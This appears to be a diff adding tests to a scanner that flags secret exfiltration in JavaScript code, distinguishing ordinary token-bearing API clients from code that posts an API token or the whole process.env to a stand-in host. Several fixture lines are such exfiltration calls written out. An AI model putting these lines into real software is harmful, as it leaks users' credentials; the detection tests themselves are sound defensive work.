@@ -117,6 +117,43 @@ module.exports = { get, keys };
     assert [h for h in hits(code) if h.severity.rank >= Severity.MEDIUM.rank] == []
 
 
+def test_api_keys_sent_by_clients_are_not_exfiltration() -> None:
+    client = """
+const { DEBUG, SERVICE_URL } = process.env;
+async function upload(body) {
+  const token = process.env.ACME_API_TOKEN;
+  const headers = { authorization: `Bearer ${token}`, 'x-debug': !!DEBUG };
+  return fetch(SERVICE_URL + '/upload', { method: 'POST', headers, body });
+}
+function imds(options) {
+  if (process.env.AWS_CONTAINER_AUTHORIZATION_TOKEN) {
+    options.headers = { ...options.headers, Authorization: process.env.AWS_CONTAINER_AUTHORIZATION_TOKEN };
+  }
+  return require('http').request(options);
+}
+module.exports = { upload, imds };
+"""
+    assert [h for h in hits(client) if h.severity.rank >= Severity.MEDIUM.rank] == []
+    in_body = "async function send() { return fetch('https://api.example.invalid', { body: process.env.ACME_API_TOKEN }); }"
+    assert rules(in_body) == {"secret-exfiltration": Severity.MEDIUM}  # a key in a function: a client, probably
+    at_load = "fetch('https://api.example.invalid', { body: process.env.ACME_API_TOKEN });"
+    assert rules(at_load) == {"secret-exfiltration": Severity.CRITICAL}
+    dump = "async function send() { return fetch('https://x.invalid', { headers: { authorization: JSON.stringify(process.env) } }); }"
+    assert rules(dump) == {"secret-exfiltration": Severity.CRITICAL}
+
+
+def test_block_scopes_keep_reused_names_apart() -> None:
+    code = """
+function f(cond) {
+  if (cond) { const s = process.env.NPM_TOKEN; console.log(s.length); }
+  else { const s = 'public'; require('https').get('https://x.example.invalid/' + s); }
+  for (const s of [1, 2]) { var v = s; }
+  return v;
+}
+"""
+    assert hits(code) == []
+
+
 def test_an_http_client_library_is_a_capability_not_a_finding() -> None:
     code = """
 const http = require('http'), https = require('https');
